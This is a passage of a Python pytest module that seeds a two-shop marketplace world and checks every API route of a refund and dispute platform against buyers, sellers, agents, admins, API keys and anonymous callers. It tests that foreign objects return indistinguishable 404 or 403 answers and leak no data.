"""Security matrix: every route of the app × every kind of caller × own, foreign and missing objects.

The routes come from the app itself, so a new endpoint without a row in `API` (or in `PUBLIC` /
`PAGES`) fails `test_every_route_has_an_expectation`. The world has two shops (A, B), their two
buyers, and per side a paid order without a case, an order with an open refund request, an order
whose case is in intervention (a dispute with evidence from the buyer, the seller and an agent,
plus a file), and a completed order with a rule complaint.

The callers: buyer A, buyer B, seller staff of A and of B, an agent, an admin (sessions from
POST /auth/login), the platform API key, a shop-A API key, and nobody. For every caller, every
endpoint and every object the caller may not see, the answer must be a 404 (or a 403 where the
caller's role is refused outright) that is indistinguishable from the answer for an object that
does not exist, and no answer to a caller ever contains data (ids, names, amounts, evidence,
personal data) of an object it may not see. Reads of one's own objects must succeed. Writes are
run last, each caller on a freshly seeded world, and must never 5xx, 401 or 404; a few of them
must succeed. Role refusals and foreign requests must change nothing in the database.

The deployment does not trust X-Peifu-Actor here (Settings.trust_actor_header=False): every
caller authenticates for real.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from datetime import timedelta
from typing import Any

import httpx
import pytest
from argon2 import PasswordHasher
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from sqlalchemy import func, select, text

from peifu.adapters.api.app import create_app
from peifu.adapters.runtime import Runtime
from peifu.db.models import (
    ApiKey,
    AuthSession,
    Base,
    Case,
    Complaint,
    Dispute,
    Evidence,
    IdempotencyRecord,
    Order,
    SellerAutoRule,
    User,
)
from peifu.domain.actors import Actor
from peifu.domain.case_machine import TABLE
from peifu.domain.clock import ManualClock
from peifu.domain.intervention import EvidenceKind
from peifu.domain.vocabulary import CaseAction, CaseType, OrderEventKind, Reason, Role
from peifu.services import auth, auto_handling, complaints, disputes, feed, orders, service_complaints, webhooks
from peifu.services import cases as case_service
from peifu.services.inputs import (
    AutoRuleIn,
    CaseIn,
    CaseLineIn,
    ComplaintIn,
    OrderEventIn,
    OrderIn,
    RefuseIn,
    ServiceComplaintActIn,
    ServiceComplaintIn,
)
from peifu.settings import Settings
from tests.conftest import START

API_PREFIX = "/api/v1"
PASSWORD = "correct-horse-battery-staple"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


# --- the callers ------------------------------------------------------------------------------------

# caller → (kind, side); the kind decides which endpoints it may use, the side which objects are its own
CALLERS: dict[str, tuple[str, str | None]] = {
    "buyer_a": ("buyer", "A"),
    "buyer_b": ("buyer", "B"),
    "seller_a": ("seller", "A"),
    "seller_b": ("seller", "B"),
    "shop_a_key": ("seller", "A"),
    "agent": ("agent", None),
    "admin": ("admin", None),
    "platform": ("platform", None),
}
USERS = {  # user id → (role, party id)
    "u-buyer-a": ("buyer", "b-alpha"),
    "u-buyer-b": ("buyer", "b-beta"),
    "u-seller-a": ("seller", "s-alpha"),
    "u-seller-b": ("seller", "s-beta"),
    "u-agent": ("agent", None),
    "u-admin": ("admin", None),
}
LOGIN_OF = {
    "buyer_a": "u-buyer-a",
    "buyer_b": "u-buyer-b",
    "seller_a": "u-seller-a",
    "seller_b": "u-seller-b",
    "agent": "u-agent",
    "admin": "u-admin",
}
ALL = frozenset({"buyer", "seller", "agent", "admin", "platform"})
AGENTS = frozenset({"agent", "admin"})
PLATFORM = frozenset({"admin", "platform"})
HOOK_OWNERS = frozenset({"seller", "admin", "platform"})


# --- the world --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Obj:
    kind: str  # order, case, dispute, evidence, complaint, shop, category, buyer_id, person
    name: str
    ref: str  # the value in the path (or body)
    side: str | None  # A or B; None for what belongs to nobody (a category)
    watched: bool = False  # in intervention (a dispute or a rule complaint): agents see it
    party: str | None = None  # evidence: who submitted it (agent evidence is shared)
    markers: tuple[str, ...] = ()  # strings found only in this object's data
    content: bytes = b""  # evidence: what its download returns
    disputed: bool = False  # cases: has a dispute


SIDES = {
    "A": {
        "tag": "alpha",
        "shop": "s-alpha",
        "shop_name": "Alpha-Shop-zq",
        "buyer": "b-alpha",
        "buyer_name": "Zhangsan-Alpha-zq",
        "phone": "13811112222",
        "address": "Beijing zq-addr-alpha-street 1",
        "prices": {"plain": 30011, "req": 30029, "disp": 30047, "cmp": 30059},
    },
    "B": {
        "tag": "beta",
        "shop": "s-beta",
        "shop_name": "Beta-Shop-zq",
        "buyer": "b-beta",
        "buyer_name": "Lisi-Beta-zq",
        "phone": "13933334444",
        "address": "Shanghai zq-addr-beta-street 2",
        "prices": {"plain": 40013, "req": 40031, "disp": 40049, "cmp": 40061},
    },
}
GHOST = {
    "order": "O-GHOST",
    "case": "999999",
    "dispute": "999999",
    "evidence": "999999",
    "complaint": "999999",
    "svc": "999999",
    "shop": "s-ghost",
    "category": "c-ghost",
    "rule": "s-ghost/999999",  # a shop's auto-handling rule: shop id / rule id
    "buyer_id": "b-ghost",
    "endpoint": "we_0000000000000000000000aa",
}


@dataclass
class World:
    objects: list[Obj] = field(default_factory=list)

    def of(self, kind: str) -> list[Obj]:
        return [o for o in self.objects if o.kind == kind]

    def named(self, name: str) -> Obj:
        return next(o for o in self.objects if o.name == name)


def sees(caller: str, obj: Obj) -> bool:
    """Whether `caller` may see `obj` at all (its data, by any endpoint that serves it)."""
    kind, side = CALLERS[caller]
    if obj.side is None:
        return True
    if obj.kind == "person":  # names, phones, addresses: the buyer and the agents handling disputes
        return kind in AGENTS or (kind == "buyer" and side == obj.side)
    if kind == "admin":
        return True
    if kind == "platform":  # the integration sees everything but evidence a party has not shared
        return obj.kind != "evidence" or obj.party == "agent"
    if kind == "agent":
        return obj.watched
    if obj.side != side:
        return False
    if obj.kind == "evidence":
        return obj.party in (kind, "agent")
    return True


def seed(rt: Runtime) -> World:
    """Both sides' shops, buyers, orders, cases, disputes, evidence and complaints, via the services."""
    world = World()
    with rt.uow() as ctx:
        for side, s in SIDES.items():
            letter, prices = side, s["prices"]
            world.objects += [
                Obj("shop", f"shop-{letter}", s["shop"], side, watched=True, markers=(s["shop"], s["shop_name"])),
                Obj("buyer_id", f"buyer-{letter}", s["buyer"], side, watched=True, markers=(s["buyer"],)),
                Obj(
                    "person",
                    f"person-{letter}",
                    s["buyer"],
                    side,
                    markers=(s["buyer_name"], s["phone"], s["address"].split(" ")[1]),
                ),
            ]
            for label in ("plain", "req", "disp", "cmp"):
                order_id = f"O{letter}-{label}"
                body = {
                    "id": order_id,
                    "shop": {"id": s["shop"], "name": s["shop_name"], "category": "shoes"},
                    "buyer": {"id": s["buyer"], "name": s["buyer_name"], "phone": s["phone"], "address": s["address"]},
                    "lines": [
                        {
                            "sku": f"SKU-{order_id}",
                            "title": f"title-{order_id}",
                            "category": "shoes",
                            "unit_price_fen": prices[label],
                            "quantity": 1,
                        }
                    ],
                }
                orders.ingest_order(ctx, OrderIn.model_validate(body))
                orders.record_event(ctx, order_id, OrderEventIn(kind=OrderEventKind.paid))
                if label == "cmp":
                    orders.record_event(
                        ctx, order_id, OrderEventIn(kind=OrderEventKind.shipped, courier="SF", tracking_no=f"SF{side}1")
                    )
                    orders.record_event(ctx, order_id, OrderEventIn(kind=OrderEventKind.confirmed))
                world.objects.append(
                    Obj(
                        "order",
                        order_id,
                        order_id,
                        side,
                        watched=label in ("disp", "cmp"),
                        markers=(order_id, str(prices[label])),
                    )
                )
            buyer = Actor(Role.buyer, s["buyer"])
            seller = Actor(Role.seller, s["shop"])
            for label in ("req", "disp"):
                description = f"zq-desc-c{letter.lower()}-{label}"
                case = case_service.open_case(
                    ctx,
                    CaseIn(
                        order_id=f"O{letter}-{label}",
                        lines=[CaseLineIn(line_no=1)],
                        case_type=CaseType.refund_only,
                        reason=Reason.ordered_by_mistake,
                        description=description,
                    ),
                    buyer,
                )
                markers: tuple[str, ...] = (description,)
                if label == "disp":
                    refusal = f"zq-refusal-{letter.lower()}"
                    case_service.act(ctx, case.id, CaseAction.refuse, seller, RefuseIn(reason=refusal))
                    case_service.act(ctx, case.id, CaseAction.escalate, buyer)
                    markers += (refusal,)
                world.objects.append(
                    Obj(
                        "case",
                        f"C{letter}-{label}",
                        str(case.id),
                        side,
                        watched=label == "disp",
                        markers=markers,
                        disputed=label == "disp",
                    )
                )
            case_id = int(world.named(f"C{letter}-disp").ref)
            dispute = disputes.for_case(ctx, case_id)
            assert dispute is not None
            world.objects.append(Obj("dispute", f"D{letter}", str(dispute.id), side, watched=True))
            for party, actor in (("buyer", buyer), ("seller", seller), ("agent", Actor(Role.agent, "xiaoer-seed"))):
                words = f"zq-evidence-{letter.lower()}-{party}"
                row = disputes.add_evidence(ctx, dispute.id, actor, EvidenceKind.text, text=words)
                world.objects.append(
                    Obj(
                        "evidence",
                        f"E{letter}-{party}",
                        str(row.id),
                        side,
                        watched=True,
                        party=party,
                        markers=(words,),
                        content=words.encode(),
                    )
                )
            picture = PNG + side.encode() * 16
            row = disputes.add_evidence(
                ctx,
                dispute.id,
                buyer,
                EvidenceKind.image,
                content=picture,
                content_type="image/png",
                filename=f"zq-photo-{letter.lower()}.png",
            )
            world.objects.append(
                Obj(
                    "evidence",
                    f"E{letter}-buyer-file",
                    str(row.id),
                    side,
                    watched=True,
                    party="buyer",
                    markers=(f"zq-photo-{letter.lower()}.png", hashlib.sha256(picture).hexdigest()),
                    content=picture,
                )
            )
            words = f"zq-complaint-{letter.lower()}"
            complaint = complaints.file(
                ctx,
                buyer,
                ComplaintIn(order_id=f"O{letter}-cmp", violation="promise_not_honoured", description=words),
            )
            world.objects.append(
                Obj("complaint", f"K{letter}", str(complaint.id), side, watched=True, markers=(words,))
            )
            # a service complaint (售后投诉) about the order already under watch, forwarded to the shop:
            # its buyer, its shop and agents see it
            words = f"zq-svc-{letter.lower()}"
            svc = service_complaints.file(
                ctx, buyer, ServiceComplaintIn(order_id=f"O{letter}-cmp", channel="online", description=words)
            )
            xiaoer = Actor(Role.agent, "xiaoer-seed")
            service_complaints.act(ctx, svc.id, xiaoer, ServiceComplaintActIn(action="register", category="service"))
            service_complaints.act(ctx, svc.id, xiaoer, ServiceComplaintActIn(action="forward"))
            world.objects.append(Obj("svc", f"V{letter}", str(svc.id), side, watched=True, markers=(words,)))
        for side in SIDES:  # each shop's auto-handling rule (one no request of the world matches)
            shop_id, words = str(SIDES[side]["shop"]), f"zq-rule-{SIDES[side]['tag']}"
            rule_in = AutoRuleIn(name=words, reasons=[Reason.damaged], action="agree", max_amount_fen=1)
            rule = auto_handling.create_rule(ctx, Actor(Role.seller, shop_id), shop_id, rule_in)
            world.objects.append(Obj("rule", f"R{side}", f"{shop_id}/{rule.id}", side, markers=(words,)))
        world.objects.append(Obj("category", "shoes", "shoes", None))
        # webhook endpoints: each shop's own (made with its staff's access) and the marketplace's
        for side, owner in (("A", Actor(Role.seller, "s-alpha")), ("B", Actor(Role.seller, "s-beta")), ("P", None)):
            words = f"zq-hook-{side.lower()}"
            endpoint = webhooks.create_endpoint(
                ctx,
                owner or Actor(Role.platform, "platform"),
                url=f"https://93.184.216.34/{words}",
                event_types=None,
                shop_id=None,
                description=words,
                urls=webhooks.UrlPolicy(),
            )
            world.objects.append(Obj("endpoint", f"W{side}", endpoint.id, side, markers=(words, endpoint.secret)))
        feed.sequence_all(ctx)  # the feed is current: a read of it has nothing left to write
    return world


# --- the expectations -------------------------------------------------------------------------------

Check = Callable[[httpx.Response, "Obj | None", str, World], "str | None"]


@dataclass(frozen=True)
class Spec:
    target: str | None  # the kind of object named in the path (or the body); None: no object
    allowed: frozenset[str]  # caller kinds that may use it at all
    write: bool = False
    body: Callable[[Obj | None, str], Any] | None = None
    upload: bool = False  # multipart evidence upload
    refusal: frozenset[int] = frozenset({403})  # status of a refused caller on its own object
    agents_see_all: bool = False  # an agent tool over every object of the kind (mark-abusive)
    fixed: tuple[int, str] | None = None  # every authenticated caller gets exactly this
    check: Check | None = None  # reads: what a successful answer must contain
    ok_when: Callable[[Obj], bool] | None = None  # own reads that only exist for some objects
    must_succeed: Callable[[Obj | None], bool] | None = None  # writes that must be 2xx on a fresh world


def _json_id(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    got = str(resp.json().get("id"))
    return None if got == obj.ref else f"answered id {got}, asked {obj.ref}"


def _case_dispute(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    got = str(resp.json().get("case_id"))
    return None if got == obj.ref else f"answered the dispute of case {got}, asked {obj.ref}"


def _content(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    if resp.content != obj.content:
        return "downloaded something else"
    if resp.headers.get("x-content-type-options") != "nosniff":
        return "a stored file served without nosniff"
    if not resp.headers.get("content-disposition", "").startswith(("inline;", "attachment;")):
        return "a stored file served without a Content-Disposition"
    if "sandbox" not in resp.headers.get("content-security-policy", ""):
        return "a stored file served without a sandboxing policy"
    return None


def _shop_json(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    got = resp.json().get("shop_id")
    return None if got == obj.ref else f"answered shop {got}, asked {obj.ref}"


def _mentions(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    return None if obj.ref in resp.text else f"{obj.ref} not in the answer"


def _category(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    shops = {s["shop_id"] for s in resp.json()["shops"]}
    return None if shops == {"s-alpha", "s-beta"} else f"ranked {shops}"


def _dispute_signals(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    got = str(resp.json().get("dispute_id"))
    return None if got == obj.ref else f"answered the signals of dispute {got}, asked {obj.ref}"


def _subject(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    got = resp.json().get("subject_id")
    return None if got == obj.ref else f"answered the signals of {got}, asked {obj.ref}"


def _triaged(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    data = resp.json()
    return None if data.get("reason") in set(Reason) and data.get("priority") else f"not a triage: {data}"


def _json_case_id(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    got = str(resp.json().get("case_id"))
    return None if got == obj.ref else f"answered case {got}, asked {obj.ref}"


def _shop_rules(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    assert obj is not None
    got = {(r["shop_id"], r["name"]) for r in resp.json()}
    want = {(o.ref.split("/")[0], o.markers[0]) for o in world.of("rule") if o.ref.startswith(obj.ref + "/")}
    return None if got == want else f"listed rules {sorted(got)}, expected {sorted(want)}"


def _listing(kind: str) -> Check:
    def check(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
        got = {str(item["id"]) for item in resp.json()}
        want = {o.ref for o in world.of(kind) if sees(caller, o)}
        return None if got == want else f"listed {kind}s {sorted(got)}, expected {sorted(want)}"

    return check


def _me(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    kind, side = CALLERS[caller]
    data = resp.json()
    role = {"admin": "agent", "platform": "platform"}.get(kind, kind)
    if data["role"] != role or data["admin"] != (kind == "admin"):
        return f"me says {data}"
    if side is not None and data["id"] != SIDES[side]["buyer" if kind == "buyer" else "shop"]:
        return f"me says {data}"
    return None


def _feed(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    """The event feed: a shop its own shop's events, a buyer their own, the platform all of them."""
    kind, side = CALLERS[caller]
    events = resp.json()["events"]
    if not events:
        return "an empty feed: the world's events are missing"
    for event in events:
        if kind == "seller" and event["shop_id"] != SIDES[str(side)]["shop"]:
            return f"{event['type']} of shop {event['shop_id']} in shop {side}'s feed"
        if kind == "buyer" and event["buyer_id"] != SIDES[str(side)]["buyer"]:
            return f"{event['type']} of buyer {event['buyer_id']} in buyer {side}'s feed"
    shops = {e["shop_id"] for e in events}
    if kind in PLATFORM and not {"s-alpha", "s-beta"} <= shops:
        return f"the platform's feed lacks a shop: {shops}"
    return None


def _balances(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
    return None if isinstance(resp.json(), dict) else "not a dict of balances"


def _note(obj: Obj | None, caller: str) -> dict[str, Any]:
    return {"note": f"by {caller}"}


def _no_body(obj: Obj | None, caller: str) -> None:
    return None


def _new_order(obj: Obj | None, caller: str) -> dict[str, Any]:
    return {
        "id": f"ON-{caller}",
        "shop": {"id": "s-alpha", "name": "Alpha-Shop-zq", "category": "shoes"},
        "buyer": {"id": "b-alpha"},
        "lines": [{"sku": "SKU-NEW", "title": "new", "category": "shoes", "unit_price_fen": 999, "quantity": 1}],
    }


def _case_body(obj: Obj | None, caller: str) -> dict[str, Any]:
    assert obj is not None
    return {
        "order_id": obj.ref,
        "lines": [{"line_no": 1}],
        "case_type": "refund_only",
        "reason": "ordered_by_mistake",
    }


def _complaint_body(obj: Obj | None, caller: str) -> dict[str, Any]:
    assert obj is not None
    return {"order_id": obj.ref, "violation": "promise_not_honoured", "description": "卖家未履行承诺"}


def _svc_body(obj: Obj | None, caller: str) -> dict[str, Any]:
    """A service complaint about the order: a buyer's own, or entered by an agent for its buyer."""
    assert obj is not None
    body = {"order_id": obj.ref, "channel": "online", "description": "客服不回复"}
    if CALLERS.get(caller, ("anonymous", None))[0] in AGENTS:
        buyer_id = str(SIDES[obj.side]["buyer"]) if obj.side in SIDES else GHOST["buyer_id"]
        body |= {"channel": "phone", "buyer_id": buyer_id}
    return body


def _const(body: dict[str, Any]) -> Callable[[Obj | None, str], dict[str, Any]]:
    return lambda obj, caller: body


def _named(*names: str) -> Callable[[Obj | None], bool]:
    return lambda obj: obj is not None and obj.name in names


def _always(obj: Obj | None) -> bool:
    return True


def _case_action_callers(action: CaseAction) -> frozenset[str]:
    """Caller kinds the state machine lets take `action` in some state (an admin acts as an agent)."""
    roles = {actor for row in TABLE if row.action == action for actor in row.actors}
    kinds = {str(r) for r in roles if r in (Role.buyer, Role.seller, Role.agent, Role.platform)}
    if Role.agent in roles:
        kinds.add("admin")
    return frozenset(kinds)


def _action(action: CaseAction, body: Callable[[Obj | None, str], Any], **kw: Any) -> Spec:
    return Spec("case", _case_action_callers(action), write=True, body=body, refusal=frozenset({403, 409}), **kw)


SHIPMENT = _const({"courier": "SF", "tracking_no": "SF20261111"})

API: dict[tuple[str, str], Spec] = {
    ("POST", "/api/v1/auth/logout"): Spec(None, ALL, write=True, must_succeed=_always),
    ("GET", "/api/v1/auth/me"): Spec(None, ALL, check=_me),
    ("POST", "/api/v1/orders"): Spec(None, PLATFORM, write=True, body=_new_order, must_succeed=_always),
    ("GET", "/api/v1/orders/{order_id}"): Spec("order", ALL, check=_json_id),
    ("POST", "/api/v1/orders/{order_id}/events"): Spec(
        "order",
        PLATFORM,
        write=True,
        body=_const({"kind": "shipped", "courier": "SF", "tracking_no": "SF42"}),
        must_succeed=_named("OA-plain", "OB-plain"),
    ),
    ("POST", "/api/v1/cases"): Spec(
        "order",
        frozenset({"buyer", "platform"}),
        write=True,
        body=_case_body,
        must_succeed=_named("OA-plain", "OB-plain"),
    ),
    ("GET", "/api/v1/cases"): Spec(None, ALL, check=_listing("case")),
    ("GET", "/api/v1/cases/{case_id}"): Spec("case", ALL, check=_json_id),
    ("POST", "/api/v1/cases/{case_id}/agree"): _action(
        CaseAction.agree, _note, must_succeed=_named("CA-req", "CB-req")
    ),
    ("POST", "/api/v1/cases/{case_id}/refuse"): _action(CaseAction.refuse, _const({"reason": "不同意退款"})),
    ("POST", "/api/v1/cases/{case_id}/propose"): _action(
        CaseAction.propose, _const({"refund_amount_fen": 100, "note": "部分退款"})
    ),
    ("POST", "/api/v1/cases/{case_id}/accept-proposal"): _action(CaseAction.accept_proposal, _no_body),
    ("POST", "/api/v1/cases/{case_id}/modify"): _action(CaseAction.modify, _const({"description": "改一下"})),
    ("POST", "/api/v1/cases/{case_id}/withdraw"): _action(
        CaseAction.withdraw, _note, must_succeed=_named("CA-req", "CB-req")
    ),
    ("POST", "/api/v1/cases/{case_id}/ship-return"): _action(CaseAction.ship_return, SHIPMENT),
    ("POST", "/api/v1/cases/{case_id}/return-signed"): _action(CaseAction.return_signed, _const({})),
    ("POST", "/api/v1/cases/{case_id}/escalate"): _action(CaseAction.escalate, _no_body),
    ("POST", "/api/v1/cases/{case_id}/confirm-return"): _action(CaseAction.confirm_return, _note),
    ("POST", "/api/v1/cases/{case_id}/reject-return"): _action(CaseAction.reject_return, _const({"reason": "货不对"})),
    ("POST", "/api/v1/cases/{case_id}/ship-replacement"): _action(CaseAction.ship_replacement, SHIPMENT),
    ("POST", "/api/v1/cases/{case_id}/advance-compensation"): _action(CaseAction.advance_compensation, _note),
    ("POST", "/api/v1/cases/{case_id}/confirm-replacement"): _action(CaseAction.confirm_replacement, _no_body),
    # Agents mark abusive claims on any case (they rank every shop): an agent tool, not a case view.
    ("POST", "/api/v1/cases/{case_id}/mark-abusive"): Spec(
        "case", AGENTS, write=True, body=_const({"note": "职业索赔"}), agents_see_all=True, must_succeed=_always
    ),
    ("GET", "/api/v1/cases/{case_id}/dispute"): Spec(
        "case", ALL, check=_case_dispute, ok_when=lambda obj: obj.disputed
    ),
    # Satisfaction ratings: only the case's buyer rates (no case of the world has ended: 409), and
    # whoever may see the case reads its rating (none is rated: 404 rating_not_found).
    ("POST", "/api/v1/cases/{case_id}/rating"): Spec(
        "case", frozenset({"buyer"}), write=True, body=_const({"score": 5, "comment": "满意"}), refusal=frozenset({403})
    ),
    ("GET", "/api/v1/cases/{case_id}/rating"): Spec("case", ALL, ok_when=lambda obj: False),
    ("GET", "/api/v1/shops/{shop_id}/ratings"): Spec("shop", frozenset({"seller", "agent", "admin"}), check=_shop_json),
    # The sandbox clock does not exist unless PEIFU_SANDBOX=1 (see test_sandbox_clock_needs_the_platform).
    ("GET", "/api/v1/sandbox/clock"): Spec(None, ALL, fixed=(404, "sandbox_disabled")),
    ("POST", "/api/v1/sandbox/clock"): Spec(
        None, ALL, write=True, body=_const({"advance_seconds": 60}), fixed=(404, "sandbox_disabled")
    ),
    ("GET", "/api/v1/disputes"): Spec(None, AGENTS, check=_listing("dispute")),
    ("GET", "/api/v1/disputes/{dispute_id}"): Spec("dispute", ALL, check=_json_id),
    ("POST", "/api/v1/disputes/{dispute_id}/assign"): Spec(
        "dispute", AGENTS, write=True, body=_const({"agent_id": "u-agent"}), must_succeed=_always
    ),
    ("POST", "/api/v1/disputes/{dispute_id}/evidence"): Spec(
        "dispute",
        frozenset({"buyer", "seller", "agent", "admin"}),
        write=True,
        body=_const({"kind": "text", "text": "补充说明"}),
        must_succeed=_always,
    ),
    ("POST", "/api/v1/disputes/{dispute_id}/evidence/files"): Spec(
        "dispute", frozenset({"buyer", "seller", "agent", "admin"}), write=True, upload=True, must_succeed=_always
    ),
    ("GET", "/api/v1/evidence/{evidence_id}/content"): Spec("evidence", ALL, check=_content),
    ("POST", "/api/v1/evidence/{evidence_id}/share"): Spec("evidence", AGENTS, write=True, must_succeed=_always),
    ("POST", "/api/v1/disputes/{dispute_id}/ruling"): Spec(
        "dispute",
        AGENTS,
        write=True,
        body=_const({"outcome": "support_seller", "liable_party": "buyer", "reasoning": "证据不足"}),
    ),
    # The state is checked before the party here: a non-party may get the 409 of an unruled dispute.
    ("POST", "/api/v1/disputes/{dispute_id}/appeal"): Spec(
        "dispute",
        frozenset({"buyer", "seller"}),
        write=True,
        body=_const({"reason": "不服判定", "evidence_text": "新证据"}),
        refusal=frozenset({403, 409}),
    ),
    ("POST", "/api/v1/disputes/{dispute_id}/appeal/decision"): Spec(
        "dispute", AGENTS, write=True, body=_const({"decision": "upheld", "reasoning": "维持原判"})
    ),
    ("POST", "/api/v1/complaints"): Spec("order", frozenset({"buyer"}), write=True, body=_complaint_body),
    ("GET", "/api/v1/complaints"): Spec(None, ALL, check=_listing("complaint")),
    ("GET", "/api/v1/complaints/{complaint_id}"): Spec("complaint", ALL, check=_json_id),
    ("POST", "/api/v1/complaints/{complaint_id}/withdraw"): Spec(
        "complaint", frozenset({"buyer"}), write=True, must_succeed=_always
    ),
    ("POST", "/api/v1/complaints/{complaint_id}/decision"): Spec(
        "complaint", AGENTS, write=True, body=_const({"upheld": True, "reasoning": "核实属实"}), must_succeed=_always
    ),
    ("POST", "/api/v1/complaints/{complaint_id}/appeal"): Spec(
        "complaint", frozenset({"seller"}), write=True, body=_const({"reason": "不服处罚"})
    ),
    ("POST", "/api/v1/complaints/{complaint_id}/appeal/decision"): Spec(
        "complaint", AGENTS, write=True, body=_const({"overturn": False, "reasoning": "维持处罚"})
    ),
    # 售后投诉: a buyer files about their own order, an agent enters one for any order's buyer (by
    # phone); the shop sees and answers its own once forwarded; statistics for the shop and the platform
    ("POST", "/api/v1/service-complaints"): Spec(
        "order", frozenset({"buyer", "agent", "admin"}), write=True, body=_svc_body, agents_see_all=True
    ),
    ("GET", "/api/v1/service-complaints"): Spec(None, ALL, check=_listing("svc")),
    ("GET", "/api/v1/service-complaints/{complaint_id}"): Spec("svc", ALL, check=_json_id),
    ("POST", "/api/v1/service-complaints/{complaint_id}/actions"): Spec(
        "svc",
        frozenset({"seller"}),
        write=True,
        body=_const({"action": "contact", "note": "已联系"}),
        refusal=frozenset({403, 409}),
    ),
    ("GET", "/api/v1/shops/{shop_id}/service-complaint-stats"): Spec(
        "shop", frozenset({"seller", "agent", "admin", "platform"}), check=_shop_json
    ),
    ("GET", "/api/v1/shops/{shop_id}/penalties"): Spec(
        "shop", frozenset({"seller", "agent", "admin", "platform"}), check=_shop_json
    ),
    ("GET", "/api/v1/shops/{shop_id}/metrics"): Spec("shop", frozenset({"seller", "agent", "admin"}), check=_shop_json),
    ("GET", "/api/v1/shops/{shop_id}/metrics.csv"): Spec(
        "shop", frozenset({"seller", "agent", "admin"}), check=_mentions
    ),
    ("GET", "/api/v1/categories/{category}/metrics"): Spec("category", AGENTS, check=_category),
    # Complaint triage reads a text and stores nothing: every authenticated party may use it.
    ("POST", "/api/v1/triage"): Spec(
        None, ALL, body=_const({"text": "收到的鞋子开胶了，和图片颜色也不一样"}), check=_triaged
    ),
    # Abuse signals and buyer marks (云标签): platform-wide agent tools; every other caller is refused
    # outright (403, whatever the id), so a party never learns what is suspected of the other.
    ("GET", "/api/v1/disputes/{dispute_id}/signals"): Spec("dispute", AGENTS, check=_dispute_signals),
    ("GET", "/api/v1/buyers/{buyer_id}/signals"): Spec("buyer_id", AGENTS, check=_subject, agents_see_all=True),
    ("GET", "/api/v1/shops/{shop_id}/signals"): Spec("shop", AGENTS, check=_subject, agents_see_all=True),
    ("POST", "/api/v1/buyers/{buyer_id}/abuse-mark"): Spec(
        "buyer_id",
        AGENTS,
        write=True,
        body=_const({"reason": "职业索赔", "scope": "all"}),
        agents_see_all=True,
        must_succeed=_always,
    ),
    ("POST", "/api/v1/buyers/{buyer_id}/abuse-mark/lift"): Spec(
        "buyer_id", AGENTS, write=True, body=_const({"reason": "误标"}), agents_see_all=True, must_succeed=_always
    ),
    ("GET", "/api/v1/categories/{category}/metrics.csv"): Spec("category", AGENTS, check=_mentions),
    # Seller tools: a shop's auto-handling rules are its staff's and admins'; answering requests in
    # bulk is its staff's alone (the state machine lets no one else agree).
    ("GET", "/api/v1/shops/{shop_id}/auto-rules"): Spec("shop", frozenset({"seller", "admin"}), check=_shop_rules),
    ("POST", "/api/v1/shops/{shop_id}/auto-rules"): Spec(
        "shop",
        frozenset({"seller", "admin"}),
        write=True,
        body=_const({"name": "极速退款", "reasons": ["ordered_by_mistake"], "max_amount_fen": 100, "action": "agree"}),
        must_succeed=_always,
    ),
    ("PATCH", "/api/v1/shops/{shop_id}/auto-rules/{rule_id}"): Spec(
        "rule", frozenset({"seller", "admin"}), write=True, body=_const({"enabled": False}), must_succeed=_always
    ),
    ("DELETE", "/api/v1/shops/{shop_id}/auto-rules/{rule_id}"): Spec(
        "rule", frozenset({"seller", "admin"}), write=True, must_succeed=_always
    ),
    ("GET", "/api/v1/cases/{case_id}/auto-rules"): Spec("case", frozenset({"seller", "admin"}), check=_json_case_id),
    ("POST", "/api/v1/shops/{shop_id}/cases/bulk-agree"): Spec(
        "shop", frozenset({"seller"}), write=True, body=_const({"case_ids": [1, 2, 3, 4, 999999]}), must_succeed=_always
    ),
    # Money is the shop's staff's and the platform's business; an agent only judges disputes.
    ("GET", "/api/v1/shops/{shop_id}/money"): Spec(
        "shop", frozenset({"seller", "admin", "platform"}), check=_shop_json
    ),
    ("POST", "/api/v1/shops/{shop_id}/deposit"): Spec(
        "shop",
        frozenset({"seller", "admin", "platform"}),
        write=True,
        body=_const({"amount_fen": 1000}),
        must_succeed=_always,
    ),
    ("POST", "/api/v1/platform/fund"): Spec(
        None, PLATFORM, write=True, body=_const({"amount_fen": 1000}), must_succeed=_always
    ),
    # The whole ledger (escrow per order included) is for the platform alone: its key and admins.
    ("GET", "/api/v1/ledger/balances"): Spec(None, PLATFORM, check=_balances),
    # Events out: the feed is scoped by the caller's access (agents use their desk, not the feed);
    # webhook endpoints are the marketplace's and each shop's own.
    ("GET", "/api/v1/events"): Spec(None, frozenset({"buyer", "seller", "admin", "platform"}), check=_feed),
    ("POST", "/api/v1/webhook-endpoints"): Spec(
        None,
        HOOK_OWNERS,
        write=True,
        body=_const({"url": "https://93.184.216.34/zq-new-hook", "event_types": ["case.opened"]}),
        must_succeed=_always,
    ),
    ("GET", "/api/v1/webhook-endpoints"): Spec(None, HOOK_OWNERS, check=_listing("endpoint")),
    ("GET", "/api/v1/webhook-endpoints/{endpoint_id}"): Spec("endpoint", HOOK_OWNERS, check=_json_id),
    ("GET", "/api/v1/webhook-endpoints/{endpoint_id}/secret"): Spec("endpoint", HOOK_OWNERS, check=_json_id),
    ("GET", "/api/v1/webhook-endpoints/{endpoint_id}/deliveries"): Spec("endpoint", HOOK_OWNERS),
